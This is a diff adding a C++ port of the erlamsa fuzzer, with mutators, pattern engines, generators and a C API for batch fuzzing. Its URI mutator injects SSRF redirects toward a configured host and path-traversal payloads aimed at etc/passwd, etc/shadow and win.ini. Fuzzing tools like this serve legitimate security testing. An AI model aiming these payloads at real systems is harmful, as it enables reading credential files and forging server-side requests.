+    std::vector<Muta> muta = mutators_mutator(c.rnd, table);                  // :669 (table order => draws in table order)
+    BList one{dec};
+    mux_fuzzers(c, muta, one);
+    Bytes nb; for (auto& b : one) nb.insert(nb.end(), b.begin(), b.end());
+    ch.bs = otp::base64_encode(nb);
+    dacc += d;
+  }
+  ll[0] = unlex(cs);
+  return dacc;
+}
+void change_scheme(const Bytes& acc_rev, Bytes& out) {                        // :733-735 (Acc is reversed text)
+  // Acc = reverse(prefix).  [$e,$l,$i,$f | T] -> reverse([$p,$t,$t,$h | T])
+  if (acc_rev.size() >= 4 && acc_rev[0] == 'e' && acc_rev[1] == 'l' && acc_rev[2] == 'i' && acc_rev[3] == 'f') {
+    for (size_t i = acc_rev.size(); i-- > 4;) out.push_back(acc_rev[i]);
+    out.push_back('h'); out.push_back('t'); out.push_back('t'); out.push_back('p');
+  } else for (size_t i = acc_rev.size(); i-- > 0;) out.push_back(acc_rev[i]);
+}
+std::vector<Bytes> string_tokens(const Bytes& s, uint8_t sep) {               // string:tokens/2 (drops empty tokens)
+  std::vector<Bytes> out; Bytes cur;
+  for (uint8_t x : s) { if (x == sep) { if (!cur.empty()) { out.push_back(cur); cur.clear(); } } else cur.push_back(x); }
+  if (!cur.empty()) out.push_back(cur);
+  return out;
+}
+Bytes join(const std::vector<Bytes>& v, size_t from, uint8_t sep) { Bytes o; for (size_t i = from; i < v.size(); i++) { if (i > from) o.push_back(sep); o.insert(o.end(), v[i].begin(), v[i].end()); } return o; }
+bool try_uri_mutate(Ctx& c, Bytes& a) {                                       // :760-768 + rand_uri_mutate :737-758
+  size_t i = 0; bool found = false;
+  for (; i + 2 < a.size(); i++) if (a[i] == ':' && a[i + 1] == '/' && a[i + 2] == '/') { found = true; break; }
+  if (!found) return false;
+  Bytes acc_rev(a.rbegin() + (a.size() - i), a.rend());
+  Bytes t(a.begin() + i + 3, a.end());
+  std::string host = c.cfg->ssrf_host, port = std::to_string(c.cfg->ssrf_port);
+  uint64_t k = c.rnd.erand(3);
+  Bytes out;
+  if (k == 1) {
+    change_scheme(acc_rev, out);
+    std::string u = "://" + host + ":" + port + "/";                          // get_ssrf_uri :727-731
+    out.insert(out.end(), u.begin(), u.end()); out.insert(out.end(), t.begin(), t.end());
+  } else if (k == 2) {
+    std::string at = (c.rnd.rand_elem_idx(2) == 0 ? " @" : "@") + host + ":" + port;
+    std::vector<Bytes> tok = string_tokens(t, '/');
+    if (tok.empty()) throw ErlCrash("badmatch: [Domain|Query] = []");
+    change_scheme(acc_rev, out);
+    const char* s = "://"; out.insert(out.end(), s, s + 3);
+    out.insert(out.end(), tok[0].begin(), tok[0].end()); out.insert(out.end(), at.begin(), at.end()); out.push_back('/');
+    Bytes q = join(tok, 1, '/'); out.insert(out.end(), q.begin(), q.end());
+  } else {
+    std::vector<Bytes> tok = string_tokens(t, '/');
+    if (tok.empty()) throw ErlCrash("badmatch: [Domain|Query] = []");
+    uint64_t n = c.rnd.erand(10);
+    Bytes nq = {'/'}; for (uint64_t j = 0; j < n; j++) { nq.push_back('.'); nq.push_back('.'); nq.push_back('/'); }
+    uint64_t w = c.rnd.erand(4);
+    std::string tailstr;
+    if (w == 1) { Bytes q = join(tok, 1, '/'); nq.insert(nq.end(), q.begin(), q.end()); }
+    else { tailstr = w == 2 ? "Windows/win.ini" : (w == 3 ? "etc/shadow" : "etc/passwd"); nq.insert(nq.end(), tailstr.begin(), tailstr.end()); }
+    for (size_t j = acc_rev.size(); j-- > 0;) out.push_back(acc_rev[j]);
+    const char* s = "://"; out.insert(out.end(), s, s + 3);
+    out.insert(out.end(), tok[0].begin(), tok[0].end()); out.insert(out.end(), nq.begin(), nq.end());
+  }
+  a.swap(out);
+  return true;
+}
+int uri_mutator(Ctx& c, BList& ll, Muta& m) {                                 // :770-784
+  std::vector<Chunk> cs = lex(ll[0]);
+  int dacc = -1;
+  for (auto& ch : cs) if (ch.type == 0 && ch.bs.size() > 5) { if (try_uri_mutate(c, ch.bs)) dacc += 1; }
+  ll[0] = unlex(cs);
+  m.fn = M_B64;                                                               // :784 returns fun base64_mutator/2 (sic)
+  return dacc;
+}
+
+// sgm / js: staged last; until restated they are not selectable.
+int sgml_mutate(Ctx&, BList&) { throw Unsupported(); }
+int json_mutate(Ctx&, BList&) { throw Unsupported(); }
+
+// ===========================================================================
+// erlamsa_patterns.erl
+// ===========================================================================
+enum PatId { P_OD, P_ND, P_BU, P_SK, P_SZ, P_CS, P_AR, P_CP, P_CO, P_NU, P_COUNT };
+struct PatDef { const char* name; int pri; };
+const PatDef PAT_TABLE[P_COUNT] = {{"od", 1}, {"nd", 2}, {"bu", 1}, {"sk", 2}, {"sz", 2}, {"cs", 1}, {"ar", 1}, {"cp", 1}, {"co", 0}, {"nu", 0}};   // :395-405
+
+struct PatEngine {
+  Ctx& c;
+  explicit PatEngine(Ctx& cc) : c(cc) {}
+  // `emit` = where blocks written by blocks_port go (a sizer/csum sub-evaluation redirects it)
+  typedef std::function<void(BList&, Bytes&)> Cont;
+
+  void emit_all(const BList& l, Bytes& sink) { for (auto& b : l) { sink.insert(sink.end(), b.begin(), b.end()); } c.check_cap(sink.size()); }
+
+  // split/1 + split_into_maxblocks/2 :45-60 : applied to {This, LlN}
+  void split(BList& l) {
+    if (l.empty() || l[0].size() <= ABSMAX_BINARY_BLOCK) return;
+    Bytes th = l[0]; BList parts; size_t pos = 0;
+    while (th.size() - pos > ABSMAX_BINARY_BLOCK) {
+      size_t as = ABSMAXHALF_BINARY_BLOCK + c.rnd.rand(ABSMAXHALF_BINARY_BLOCK) - 1;
+      parts.emplace_back(th.begin() + pos, th.begin() + pos + as); pos += as;
+    }
+    parts.emplace_back(th.begin() + pos, th.end());
+    BList nl = parts; nl.insert(nl.end(), l.begin() + 1, l.end()); l.swap(nl);
+  }
+  // mutate_once_loop/6 :281-296 ; l = [This | Ll]
+  void mutate_once_loop(int ip, BList l, const Cont& cont, Bytes& sink) {
+    while (true) {
+      uint64_t n = c.rnd.rand((uint64_t)ip);
+      if (n == 0 || l.size() == 1) { mux_fuzzers(c, c.fs, l); cont(l, sink); return; }
+      sink.insert(sink.end(), l[0].begin(), l[0].end()); l.erase(l.begin());
+    }
+  }
+  // mutate_once/4 :265-278
+  void mutate_once(BList ll, const Cont& cont, Bytes& sink) {
+    if (ll.size() == 1 && ll[0].empty()) return;                              // {Mutator, Meta}: nothing more is written
+    int ip = (int)c.rnd.rand(INITIAL_IP);
+    if (ll.empty()) { BList e; cont(e, sink); return; }
+    split(ll);
+    mutate_once_loop(ip, ll, cont, sink);
+  }
+  void run(int pat, BList ll, Bytes& sink) {
+    c.t("pattern", PAT_TABLE[pat].name);
+    switch (pat) {
+      case P_OD: mutate_once(ll, [this](BList& l, Bytes& s) { emit_all(l, s); }, sink); return;                  // :306-309
+      case P_ND: mutate_once(ll, [this](BList& l, Bytes& s) { many_dec_cont(l, s); }, sink); return;             // :323-326
+      case P_BU: mutate_once(ll, [this](BList& l, Bytes& s) { burst_cont(l, s); }, sink); return;                // :346-349
+      case P_CO: if (c.rnd.erand(2) == 1) run(P_NU, ll, sink); else run(P_OD, ll, sink); return;                 // :378-384
+      case P_NU: { split(ll); emit_all(ll, sink); return; }                                                     // :386-390
+      default: break;
+    }
+    // make_complex_pat :351-357 : the continuation pattern is drawn first
+    int contpat = (int)c.rnd.rand_elem_idx(P_COUNT);
+    Cont next = [this, contpat](BList& l, Bytes& s) { run(contpat, l, s); };
+    switch (pat) {
+      case P_SK: skipper(ll, next, sink); return;
+      case P_SZ: sizer(ll, next, sink); return;
+      case P_CS: csum(ll, next, sink); return;
+      case P_AR: archiver(ll, next, sink); return;
+      case P_CP: compressed(ll, next, sink); return;
+    }
+  }
+  void many_dec_cont(BList& l, Bytes& sink) {                                 // :313-321
+    if (c.rnd.rand_occurs_fixed(4, 5)) run_nd_again(l, sink); else emit_all(l, sink);
+  }
+  void run_nd_again(BList& l, Bytes& sink) { c.t("pattern", "nd"); mutate_once(l, [this](BList& l2, Bytes& s) { many_dec_cont(l2, s); }, sink); }
+  void burst_cont(BList& l, Bytes& sink) {                                    // :331-344
+    int n = 1;
+    while (true) {
+      bool p = c.rnd.rand_occurs_fixed(4, 5);
+      if (p || n < 2) { mux_fuzzers(c, c.fs, l); n++; } else { emit_all(l, sink); return; }
+    }
+  }
+  void skipper(BList ll, const Cont& next, Bytes& sink) {                     // mutate_once_skipper :146-161
+    int ip = (int)c.rnd.rand(INITIAL_IP);
+    if (ll.empty()) throw ErlCrash("badarg: size(false)");
+    Bytes bin = ll[0];
+    size_t len = c.rnd.rand((uint64_t)std::trunc((double)bin.size() / 2.0));
+    sink.insert(sink.end(), bin.begin(), bin.begin() + len);
+    ll[0] = Bytes(bin.begin() + len, bin.end());
+    split(ll);
+    mutate_once_loop(ip, ll, next, sink);
+  }
+  void sizer(BList ll, const Cont& next, Bytes& sink) {                       // mutate_once_sizer :81-111
+    int ip = (int)c.rnd.rand(INITIAL_IP);
+    if (ll.empty()) throw ErlCrash("function_clause: get_possible_simple_lens(false)");
+    Bytes bin = ll[0]; BList rest(ll.begin() + 1, ll.end());
+    std::vector<Sizer> cands = get_possible_simple_lens(c, bin);
+    int64_t ei = c.rnd.rand_elem_idx(cands.size());
+    if (ei < 0) { split(ll); mutate_once_loop(ip, ll, next, sink); return; }
+    const Sizer& e = cands[ei]; int nb = e.size / 8;
+    if (bin.size() < e.a + nb + e.len) throw ErlCrash("badmatch: extract_blob");
+    Bytes h(bin.begin(), bin.begin() + e.a), blob(bin.begin() + e.a + nb, bin.begin() + e.a + nb + e.len), tailbin(bin.begin() + e.a + nb + e.len, bin.end());
+    BList sub; sub.push_back(blob); sub.insert(sub.end(), rest.begin(), rest.end());
+    split(sub);
+    Bytes newblob;                                                            // prepare4sizer :63-78
+    mutate_once_loop(ip, sub, next, newblob);
+    Bytes nb2 = h; put_int(nb2, newblob.size(), e.size, e.big); nb2.insert(nb2.end(), newblob.begin(), newblob.end());
+    sink.insert(sink.end(), nb2.begin(), nb2.end()); sink.insert(sink.end(), tailbin.begin(), tailbin.end());
+    c.check_cap(sink.size());
+  }
+  void csum(BList ll, const Cont& next, Bytes& sink) {                        // mutate_once_csum :115-144
+    int ip = (int)c.rnd.rand(INITIAL_IP);
+    if (ll.empty()) throw ErlCrash("function_clause: get_possible_csum_locations(false)");
+    Bytes bin = ll[0]; BList rest(ll.begin() + 1, ll.end());
+    std::vector<Csum> cands = get_possible_csum_locations(bin);
+    int64_t ei = c.rnd.rand_elem_idx(cands.size());
+    if (ei < 0) { split(ll); mutate_once_loop(ip, ll, next, sink); return; }
+    const Csum& e = cands[ei];
+    Bytes p(bin.begin(), bin.begin() + e.plen), blob(bin.begin() + e.plen, bin.begin() + e.plen + e.blen);
+    BList sub; sub.push_back(blob); sub.insert(sub.end(), rest.begin(), rest.end());
+    split(sub);
+    Bytes newblob;
+    mutate_once_loop(ip, sub, next, newblob);
+    Bytes nb2 = p; nb2.insert(nb2.end(), newblob.begin(), newblob.end());
+    if (e.crc) put_int(nb2, otp::crc32(newblob.data(), newblob.size()), 32, true);
+    else { uint8_t x = 0; for (uint8_t b : newblob) x ^= b; nb2.push_back(x); }
+    sink.insert(sink.end(), nb2.begin(), nb2.end());
+    c.check_cap(sink.size());
+  }
+  void archiver(BList ll, const Cont& next, Bytes& sink) {                    // mutate_once_archiver :165-214
+    int ip = (int)c.rnd.rand(INITIAL_IP);
+    if (ll.empty()) throw ErlCrash("badarg");
+    Bytes all; for (auto& b : ll) all.insert(all.end(), b.begin(), b.end());  // list_to_binary([Bin|Rest])
+    if (has_zip_eocd(all)) throw Unsupported();
+    BList one{all};
+    split(one);
+    mutate_once_loop(ip, one, next, sink);
+  }
+  void compressed(BList ll, const Cont& next, Bytes& sink) {                  // mutate_once_compressed :216-260
+    int ip = (int)c.rnd.rand(INITIAL_IP);
+    if (ll.empty()) throw ErlCrash("badarg");
+    const Bytes& bin = ll[0];
+    // zlib:gunzip needs the 1f 8b magic; zlib:inflate needs a valid 2-byte zlib header.
+    // Anything that gets past the header checks would need OTP's zlib bit-for-bit.
+    bool gz = bin.size() >= 2 && bin[0] == 0x1f && bin[1] == 0x8b;
+    bool zl = bin.size() >= 2 && (bin[0] & 0x0f) == 8 && (bin[0] >> 4) <= 7 && ((bin[0] << 8) | bin[1]) % 31 == 0 && !(bin[1] & 0x20);
+    if (gz || zl || bin.size() < 2) throw Unsupported();
+    split(ll);
+    mutate_once_loop(ip, ll, next, sink);
+  }
+};
+
+// ===========================================================================
+// erlamsa_gen.erl (direct + random) and erlamsa_main.erl driver
+// ===========================================================================
+BList finish(Rnd& rnd, size_t len) {                                          // :43-51
+  uint64_t n = rnd.rand(len + 1);
+  if (n != len) return {};
+  uint64_t bits = rnd.rand_range(1, 16);
+  uint64_t nlen = rnd.rand((uint64_t)1 << bits);
+  Bytes b(nlen);
+  for (uint64_t i = 0; i < nlen; i++) b[nlen - 1 - i] = (uint8_t)rnd.rand(256);   // random_numbers/2 prepends :178-183
+  if (b.empty()) return {};                                                   // check_empty :178-179
+  return {b};
+}
+uint64_t rand_block_size(Rnd& rnd, double bs) {                               // :55-56
+  return std::max<uint64_t>(rnd.rand((uint64_t)std::llround(MAX_BLOCK_SIZE * bs)), (uint64_t)std::llround(MIN_BLOCK_SIZE * bs));
+}
+BList direct_generator(Rnd& rnd, const Bytes& input, double bs) {             // :152-164 (split_binary's guard never holds)
+  rand_block_size(rnd, bs);
+  BList l{input};
+  BList f = finish(rnd, input.size());
+  l.insert(l.end(), f.begin(), f.end());
+  return l;
+}
+BList random_stream(Rnd& rnd, double bs) {                                    // :167-178
+  BList out;
+  while (true) {
+    uint64_t n = rnd.rand_range(32, (int64_t)std::llround(MAX_BLOCK_SIZE * bs));
+    out.push_back(rnd.random_block(n));
+    uint64_t ip = rnd.rand_range(1, 100);
+    if (rnd.rand(ip) == 0) return out;
+  }
+}
+
+struct Run {                     // state of one erlamsa_main:fuzzer/1 invocation
+  Rnd parent; std::vector<Muta> muta; int gen; /*0 direct,1 random*/ std::vector<PriItem> pats; int pat_total;
+};
+int lookup_muta(const std::string& n) { for (int i = 0; i < M_COUNT; i++) if (n == MUTA_TABLE[i].name) return i; return -1; }
+int lookup_pat(const std::string& n) { for (int i = 0; i < P_COUNT; i++) if (n == PAT_TABLE[i].name) return i; return -1; }
+
+// erlamsa_main:fuzzer/1 :125-163 — per-run setup draws, in order.
+void setup_run(Run& run, const Config& cfg, int64_t s1, int64_t s2, int64_t s3) {
+  run.parent.seed(s1, s2, s3);                                                // :134
+  run.muta = make_mutator(run.parent, cfg.mutations);                         // :149
+  // make_generator :244-248 + mux_generators :194-199
+  std::vector<PriItem> gs;
+  for (auto& g : cfg.generators) { int id = g.first == "direct" ? 0 : (g.first == "random" ? 1 : -1); if (id >= 0) gs.push_back({g.second, id}); }
+  if (gs.empty()) throw std::runtime_error("No generators!");
+  int total; std::vector<PriItem> sg = sort_by_priority(gs, &total);
+  run.gen = choose_pri(sg, (int64_t)run.parent.rand((uint64_t)total));
+  // make_pattern :416-428 (foldl prepend => reversed table order) + mux_patterns :437-442
+  std::vector<PriItem> ps;
+  for (int i = 0; i < P_COUNT; i++) for (auto& s : cfg.patterns) if (s.first == i) { ps.insert(ps.begin(), {s.second, i}); break; }
+  run.pats = sort_by_priority(ps, &run.pat_total);
+}
+
+// One FuzzingLoop iteration :176-221 (worker process body :182-210)
+void run_case(Run& run, const Config& cfg, const Bytes& input, Bytes* out, int* status, uint64_t* draws, std::string* trace) {
+  int64_t t1 = (int64_t)run.parent.erand(99999), t2 = (int64_t)run.parent.erand(99999), t3 = (int64_t)run.parent.erand(99999);   // gen_predictable_seed :179
+  Ctx c; c.cfg = &cfg; c.trace = trace;
+  c.rnd.seed(t1, t2, t3);                                                     // :183
+  c.fs = run.muta;                                                            // CurMuta (not advanced between cases, :229-230)
+  *status = EO_OK;
+  try {
+    BList ll = run.gen == 0 ? direct_generator(c.rnd, input, cfg.blockscale) : random_stream(c.rnd, cfg.blockscale);   // :185
+    if (run.pats.empty()) throw ErlCrash("no patterns");
+    int pat = choose_pri(run.pats, (int64_t)c.rnd.rand((uint64_t)run.pat_total));       // choose_pattern_fun :431-434
+    PatEngine pe(c);
+    pe.run(pat, ll, c.out);                                                   // :189 + erlamsa_out:output :66-77
+    *out = c.out;
+  } catch (ErlCrash& e) { out->clear(); *status = EO_CRASHED; if (trace) { trace->append("crash:"); trace->append(e.what()); } }
+  catch (Overflow&) { out->clear(); *status = EO_OVERFLOW; }
+  catch (Unsupported&) { out->clear(); *status = EO_UNSUPPORTED; }
+  *draws = c.rnd.r.draws;
+}
+
+// "-m"/"-p" syntax: erlamsa_cmdparse:string_to_actions :232-257
+template <class Lookup>
+bool parse_actions(const char* s, Lookup lookup, const std::vector<std::pair<int, int>>& defaults, std::vector<std::pair<int, int>>* out, std::string* err) {
+  out->clear();
+  std::stringstream ss(s); std::string tok;
+  while (std::getline(ss, tok, ',')) {
+    if (tok.empty()) continue;
+    std::string name = tok; int pri = -1; size_t eq = tok.find('=');
+    if (eq != std::string::npos) { name = tok.substr(0, eq); pri = atoi(tok.c_str() + eq + 1); }
+    int id = lookup(name);
+    if (id < 0) { *err = "No such action: " + name; return false; }
+    if (pri < 0) for (auto& d : defaults) if (d.first == id) pri = d.second;
+    bool dup = false; for (auto& o : *out) if (o.first == id) { o.second = pri; dup = true; }
+    if (!dup) out->push_back({id, pri});
+  }
+  return true;
+}
+
+std::string g_err;
+
+bool build_config(const eo_config* ec, Config* cfg) {
+  std::vector<std::pair<int, int>> dm, dp;
+  for (int i = 0; i < M_COUNT; i++) dm.push_back({i, MUTA_TABLE[i].pri});
+  for (int i = 0; i < P_COUNT; i++) dp.push_back({i, PAT_TABLE[i].pri});
+  cfg->mutations = dm; cfg->patterns = dp;
+  if (ec->mutations && !parse_actions(ec->mutations, lookup_muta, dm, &cfg->mutations, &g_err)) return false;
+  if (ec->patterns && !parse_actions(ec->patterns, lookup_pat, dp, &cfg->patterns, &g_err)) return false;
+  cfg->generators = {{"random", 1}, {"direct", 500}};   // erlamsa_gen:default/0 filtered by make_generator_fun for paths=[direct]
+  if (ec->generators) {
+    cfg->generators.clear();
+    // keep erlamsa_gen:generators/0 table order (random before direct)
+    std::stringstream ss(ec->generators); std::string tok; int pr = -1, pd = -1;
+    while (std::getline(ss, tok, ',')) {
+      std::string name = tok; int pri = -1; size_t eq = tok.find('='); if (eq != std::string::npos) { name = tok.substr(0, eq); pri = atoi(tok.c_str() + eq + 1); }
+      if (name == "random") pr = pri < 0 ? 1 : pri; else if (name == "direct") pd = pri < 0 ? 500 : pri; else { g_err = "unsupported generator " + name; return false; }
+    }
+    if (pr >= 0) cfg->generators.push_back({"random", pr});
+    if (pd >= 0) cfg->generators.push_back({"direct", pd});
+  }
+  cfg->blockscale = ec->blockscale == 0 ? 1.0 : ec->blockscale;
+  if (ec->ssrf_host) cfg->ssrf_host = ec->ssrf_host;
+  if (ec->ssrf_port) cfg->ssrf_port = ec->ssrf_port;
+  cfg->max_case_bytes = ec->max_case_bytes;
+  return true;
+}
+
+}  // namespace
+
+// ===========================================================================
+// C API
+// ===========================================================================
+extern "C" {
+
+const char* eo_last_error(void) { return g_err.c_str(); }
+void eo_free(void* p) { free(p); }
+void eo_free_result(eo_result* r) { free(r->data); free(r->off); free(r->status); free(r->draws); free(r->trace); memset(r, 0, sizeof(*r)); }
+
+int eo_fuzz_batch(const eo_config* ec, const uint8_t* data, const uint64_t* off, uint64_t n, int want_trace, eo_result* res) {
+  try {
+    Config cfg;
+    if (!build_config(ec, &cfg)) return 1;
+    std::vector<Bytes> outs(n); std::vector<int> st(n); std::vector<uint64_t> dr(n); std::string trace;
+    Run run;
+    if (ec->mode == 0) {
+      setup_run(run, cfg, ec->seed[0], ec->seed[1], ec->seed[2]);
+      // cases 1..first_case-1 consume their ThreadSeed draws (3 each) from the parent stream
+      for (uint64_t k = 1; k < ec->first_case; k++) { run.parent.erand(99999); run.parent.erand(99999); run.parent.erand(99999); }
+    }
+    for (uint64_t i = 0; i < n; i++) {
+      Bytes input(data + off[i], data + off[i + 1]);
+      if (ec->mode == 1) setup_run(run, cfg, ec->seeds[3 * i], ec->seeds[3 * i + 1], ec->seeds[3 * i + 2]);
+      std::string tr;
+      run_case(run, cfg, input, &outs[i], &st[i], &dr[i], want_trace ? &tr : nullptr);
+      if (want_trace) { trace += tr; trace.push_back('\n'); }
+    }
+    uint64_t total = 0; for (auto& o : outs) total += o.size();
+    res->data = (uint8_t*)malloc(total ? total : 1);
+    res->off = (uint64_t*)malloc(sizeof(uint64_t) * (n + 1));
+    res->status = (int32_t*)malloc(sizeof(int32_t) * (n ? n : 1));
+    res->draws = (uint64_t*)malloc(sizeof(uint64_t) * (n ? n : 1));
+    uint64_t p = 0;
+    for (uint64_t i = 0; i < n; i++) { res->off[i] = p; if (!outs[i].empty()) memcpy(res->data + p, outs[i].data(), outs[i].size()); p += outs[i].size(); res->status[i] = st[i]; res->draws[i] = dr[i]; }
+    res->off[n] = p;
+    res->trace = nullptr; res->trace_len = 0;
+    if (want_trace) { res->trace = (char*)malloc(trace.size() + 1); memcpy(res->trace, trace.c_str(), trace.size() + 1); res->trace_len = trace.size(); }
+    return 0;
+  } catch (std::exception& e) { g_err = e.what(); return 2; }
+}
+
+void eo_rand_uniforms(int64_t a, int64_t b, int64_t c, uint64_t n, double* out) {
+  otp::Random r; r.seed(a, b, c);
+  for (uint64_t i = 0; i < n; i++) out[i] = r.uniform();
+}
+
+int32_t eo_run_mutator(const char* name, int64_t a, int64_t b, int64_t c3, const uint8_t* in, uint64_t len, uint8_t** out, uint64_t* out_len, uint32_t* nblocks) {
+  Config cfg; Ctx c; c.cfg = &cfg; c.rnd.seed(a, b, c3);
+  int id = lookup_muta(name);
+  if (id < 0) return INT32_MIN;
+  Muta m; m.score = 10; m.pri = MUTA_TABLE[id].pri; m.name = id; m.fn = id; m.mask_fun = id == M_SRND ? 3 : 0;
+  BList ll{Bytes(in, in + len)};
+  int32_t d;
+  try { d = run_muta_fn(c, ll, m); } catch (ErlCrash&) { return INT32_MIN; } catch (Unsupported&) { return INT32_MIN + 1; } catch (Overflow&) { return INT32_MIN + 2; }
+  Bytes o; for (auto& x : ll) o.insert(o.end(), x.begin(), x.end());
+  *out = (uint8_t*)malloc(o.size() ? o.size() : 1); if (!o.empty()) memcpy(*out, o.data(), o.size());
+  *out_len = o.size(); *nblocks = (uint32_t)ll.size();
+  return d;
+}
+
+int32_t eo_lex_roundtrip(const uint8_t* in, uint64_t len, uint8_t* out) {
+  Bytes b(in, in + len); std::vector<Chunk> cs = lex(b); Bytes u = unlex(cs);
+  if (u.size() != len) return -1;
+  if (len) memcpy(out, u.data(), len);
+  return (int32_t)cs.size();
+}
+
+void eo_sort_by_priority(const int32_t* pri, uint32_t n, uint32_t* perm) {
+  std::vector<PriItem> l; for (uint32_t i = 0; i < n; i++) l.push_back({pri[i], (int)i});
+  int tot; std::vector<PriItem> s = sort_by_priority(l, &tot);
+  for (uint32_t i = 0; i < n; i++) perm[i] = (uint32_t)s[i].id;
+}
+
+}  // extern "C"
